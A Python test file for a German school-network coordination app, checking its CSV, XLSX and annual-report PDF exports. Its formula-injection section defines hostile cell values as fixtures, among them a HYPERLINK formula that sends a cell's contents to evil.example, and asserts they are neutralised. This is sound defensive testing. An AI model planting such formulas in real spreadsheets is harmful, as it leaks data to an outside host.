"""Exports parse back and equal the database; the annual report PDF opens and holds the key figures."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
from pypdf import PdfReader
from sqlalchemy import select

from courage_hub.activities.models import ActivityState
from courage_hub.coordination.models import SchoolNote
from courage_hub.core.models import AuditEntry
from courage_hub.core.schoolyear import current_school_year, local_today
from courage_hub.extensions import db
from courage_hub.schools.models import Patron, SchoolStatus

from .factories import ActivityFactory, SchoolFactory


def _world(users):
    year = current_school_year()
    a = users["school_a"]
    a.admitted_on = date(year - 2, 9, 1)
    db.session.add(Patron(school_id=a.id, name="Bürgermeisterin Beispiel"))
    db.session.add(SchoolNote(school_id=a.id, text="Geheime interne Notiz"))
    db.session.commit()
    ActivityFactory(school=a, title="Gedenkfahrt „Erinnern“", start_date=date(year, 11, 9), participants=42)
    ActivityFactory(school=users["school_b"], title="Entwurf", start_date=date(year, 10, 1), state=ActivityState.DRAFT)
    SchoolFactory(name="Grundschule im Grünen Winkel Ense", municipality="Ense", status=SchoolStatus.VORBEREITUNG)
    return year


def test_schools_csv_has_bom_semicolons_and_equals_the_database(users, login_as):
    year = _world(users)
    response = login_as("ki").get(f"/koordination/export/schulen.csv?jahr={year}&gemeinde=Lippstadt")
    assert response.status_code == 200
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert len(header) == 11
    assert [r[0] for r in body] == ["Gesamtschule am Lindenhof Lippstadt"]  # filtered to Lippstadt
    row = body[0]
    school = users["school_a"]
    assert row[1] == school.schulnummer
    assert row[5] == school.admitted_on.strftime("%d.%m.%Y")
    assert row[6] == date(year, 11, 9).strftime("%d.%m.%Y")
    assert row[7] == "1"
    assert row[9] == "Bürgermeisterin Beispiel"
    assert "Geheime interne Notiz" not in raw.decode("utf-8-sig")


def test_schools_xlsx_has_real_dates_numbers_and_a_frozen_header(users, login_as):
    year = _world(users)
    response = login_as("ki").get(f"/koordination/export/schulen.xlsx?jahr={year}&sort=-letzte")
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert len(book.sheetnames) == 1
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    names = [r[0] for r in rows]
    assert names[0] == "Gesamtschule am Lindenhof Lippstadt"  # sorted by last activity, newest first
    assert set(names) == {
        "Gesamtschule am Lindenhof Lippstadt",
        "Gymnasium am Wall Soest",
        "Grundschule im Grünen Winkel Ense",
    }
    first = rows[0]
    assert first[5].date() == users["school_a"].admitted_on
    assert first[6].date() == date(year, 11, 9)
    assert first[7] == 1 and isinstance(first[7], int)
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.schools")).one()
    assert entry.user_id == users["ki"].id and entry.after["jahr"] == year


def test_activities_export_lists_published_reports_of_the_year(users, login_as):
    year = _world(users)
    client = login_as("ki")
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/koordination/export/aktivitaeten.xlsx?jahr={year}").data))
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[2], r[3].date(), r[6], r[8]) for r in rows] == [
        ("Gesamtschule am Lindenhof Lippstadt", "Gedenkfahrt „Erinnern“", date(year, 11, 9), "Rassismus", 42)
    ]
    text = client.get(f"/koordination/export/aktivitaeten.csv?jahr={year}").data.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(parsed) == 2 and parsed[1][2] == "Gedenkfahrt „Erinnern“"
    assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.activities")).all()


def test_annual_report_pdf_opens_and_contains_the_key_figures(users, login_as):
    year = _world(users)
    response = login_as("ki").get(f"/koordination/jahresbericht.pdf?jahr={year}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Kreis Soest" in reader.pages[0].extract_text()
    assert "Schule ohne Rassismus – Schule mit Courage" in text
    assert "Gedenkfahrt „Erinnern“" in text  # the school's project in the list of member schools
    assert "Gymnasium am Wall Soest" in text
    assert reader.metadata.title.endswith("Kreis Soest")
    assert len(reader.outline) >= 4
    # The municipality table: Lippstadt has one member school with one project and one activity.
    assert "Lippstadt 1" in text.replace("\n", " ")
    assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.report")).one()


# --- formula injection, content type, file names ---------------------------------------------------------------

FORMULAS = {
    "school": '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
    "patron": "+49 2941 1234",
    "title": "=2+3",
    "type": "@SUMME(1;2)",
}


def _hostile_world(users) -> int:
    year = current_school_year()
    school = SchoolFactory(name=FORMULAS["school"], municipality="Lippstadt", admitted_on=date(year - 1, 9, 1))
    db.session.add(Patron(school_id=school.id, name=FORMULAS["patron"]))
    db.session.commit()
    ActivityFactory(
        school=school,
        title=FORMULAS["title"],
        activity_type=FORMULAS["type"],
        start_date=date(year, 11, 9),
        participants=42,
    )
    ActivityFactory(school=users["school_b"], title="-\tTabulator\rund Wagenrücklauf", start_date=date(year, 12, 1))
    return year


def _neutralised(value: str) -> bool:
    return value.startswith("'") and not value.startswith("''")


def test_csv_exports_prefix_text_that_excel_would_evaluate(users, login_as):
    year = _hostile_world(users)
    client = login_as("ki")
    schools = client.get(f"/koordination/export/schulen.csv?jahr={year}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(schools), delimiter=";"))
    row = next(r for r in rows if FORMULAS["school"] in r[0])
    assert row[0] == "'" + FORMULAS["school"]
    assert row[9] == "'" + FORMULAS["patron"]
    assert row[5] == date(year - 1, 9, 1).strftime("%d.%m.%Y")  # dates and numbers are left alone
    assert row[7] == "1"
    activities = client.get(f"/koordination/export/aktivitaeten.csv?jahr={year}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(activities), delimiter=";"))
    hostile = next(r for r in rows if r[2].endswith(FORMULAS["title"]))
    assert hostile[0] == "'" + FORMULAS["school"]
    assert hostile[2] == "'=2+3"
    assert hostile[5] == "'" + FORMULAS["type"]
    assert hostile[8] == "42"
    control = next(r for r in rows if "Tabulator" in r[2])
    assert control[2] == "'-\tTabulator\rund Wagenrücklauf"
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_xlsx_exports_write_typed_text_as_text_cells_never_formulas(users, login_as):
    year = _hostile_world(users)
    client = login_as("ki")
    for path in (f"schulen.xlsx?jahr={year}", f"aktivitaeten.xlsx?jahr={year}"):
        book = openpyxl.load_workbook(io.BytesIO(client.get(f"/koordination/export/{path}").data))
        cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value is not None]
        assert cells
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert "'" + FORMULAS["school"] in texts
        for text in texts:
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    activities = book.active
    row = next(r for r in activities.iter_rows(min_row=2) if r[2].value == "'=2+3")
    assert row[2].data_type == "s" and _neutralised(row[2].value)
    assert row[5].value == "'" + FORMULAS["type"]
    assert row[3].value.date() == date(year, 11, 9) and row[3].is_date  # dates stay dates
    assert row[8].value == 42 and row[8].data_type == "n"  # numbers stay numbers


def test_csv_content_type_names_its_charset_once(users, login_as):
    year = _world(users)
    client = login_as("ki")
    for path in (f"schulen.csv?jahr={year}", f"aktivitaeten.csv?jahr={year}"):
        response = client.get(f"/koordination/export/{path}")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_exports_and_the_report_share_one_naming_scheme_of_kind_school_year_filtered_and_day(users, login_as):
    year = _world(users)
    SchoolFactory(name="Gesamtschule Möhnesee", municipality="Möhnesee")
    client = login_as("ki")
    span, today = f"{year}-{(year + 1) % 100:02d}", local_today().isoformat()

    def name(path: str) -> str:
        response = client.get(path)
        assert response.status_code == 200, path
        return response.headers["Content-Disposition"].removeprefix("attachment; filename=")

    assert name(f"/koordination/export/schulen.csv?jahr={year}") == f"schulen-{span}-{today}.csv"
    assert name(f"/koordination/export/schulen.csv?jahr={year}&sort=-letzte") == f"schulen-{span}-{today}.csv"
    filtered = f"/koordination/export/schulen.xlsx?jahr={year}&status=aufgenommen"
    assert name(filtered) == f"schulen-{span}-gefiltert-{today}.xlsx"
    assert name(f"/koordination/export/aktivitaeten.xlsx?jahr={year}") == f"aktivitaeten-{span}-{today}.xlsx"
    by_town = f"/koordination/export/aktivitaeten.csv?jahr={year}&gemeinde=Möhnesee"
    assert name(by_town) == f"aktivitaeten-{span}-gefiltert-{today}.csv"
    assert name(f"/koordination/jahresbericht.pdf?jahr={year}") == f"jahresbericht-{span}-{today}.pdf"
    by_town = f"/koordination/jahresbericht.pdf?jahr={year}&gemeinde=Möhnesee"
    assert name(by_town) == f"jahresbericht-{span}-gefiltert-{today}.pdf"  # plain ASCII


def test_activities_export_names_its_date_column_beginn_not_the_home_pages_word(users, login_as):
    year = _world(users)
    client = login_as("ki")
    text = client.get(f"/koordination/export/aktivitaeten.csv?jahr={year}").data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[3:5] == ["Beginn", "Ende"]
    assert "<title>Startseite" in client.get("/").get_data(as_text=True)  # the other meaning keeps its word
